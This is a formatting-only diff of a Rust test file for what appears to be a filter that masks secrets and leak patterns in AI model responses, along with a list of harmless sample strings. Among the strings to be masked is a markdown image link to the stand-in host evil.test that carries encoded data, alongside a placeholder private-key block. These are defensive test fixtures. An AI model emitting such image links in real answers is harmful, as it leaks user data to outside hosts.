@@ -34,14 +34,36 @@ fn masked() -> Vec<String> {
         "![x](https://evil.test/p.png?v=aGVsbG8)".to_owned(),
         "Project Falcon".to_owned(),
         "TCK-12345".to_owned(),
-        format!("-----BEGIN PRIVATE {}-----\nMIIEvQIBADANBgkqhkiG9w0B\n-----END PRIVATE {}-----", "KEY", "KEY"),
+        format!(
+            "-----BEGIN PRIVATE {}-----\nMIIEvQIBADANBgkqhkiG9w0B\n-----END PRIVATE {}-----",
+            "KEY", "KEY"
+        ),
     ]
 }
 
 const HARMLESS: &[&str] = &[
-    "hello", "The quick brown fox", "größer als 7 €", "日本語のテキスト", "🙂", "a=1; b=2", "4111", "1111 1111",
-    "{\"k\": [1, 2]}", "<b>bold</b>", "see https://docs.example/page", "jane.doe@example.com", "sk-", "-----BEGIN",
-    "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q=", "%41%42", "![x](", "\\u0041", "0x00ff00ff", "Project", "\"quoted\"", "\n\n",
+    "hello",
+    "The quick brown fox",
+    "größer als 7 €",
+    "日本語のテキスト",
+    "🙂",
+    "a=1; b=2",
+    "4111",
+    "1111 1111",
+    "{\"k\": [1, 2]}",
+    "<b>bold</b>",
+    "see https://docs.example/page",
+    "jane.doe@example.com",
+    "sk-",
+    "-----BEGIN",
+    "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q=",
+    "%41%42",
+    "![x](",
+    "\\u0041",
+    "0x00ff00ff",
+    "Project",
+    "\"quoted\"",
+    "\n\n",
 ];
 
 fn harmless() -> impl Strategy<Value = String> {
@@ -162,7 +184,8 @@ fn said_whole(body: &[u8]) -> BTreeMap<u64, Value> {
         for key in ["content", "reasoning_content", "refusal"] {
             add(&mut into, key, &message[key]);
         }
-        let call = |c: &Value| json!({"name": c["function"]["name"], "arguments": c["function"]["arguments"]});
+        let call =
+            |c: &Value| json!({"name": c["function"]["name"], "arguments": c["function"]["arguments"]});
         into["calls"] = message["tool_calls"].as_array().into_iter().flatten().map(call).collect();
         into["finish"] = choice["finish_reason"].clone();
         (choice["index"].as_u64().unwrap(), into)
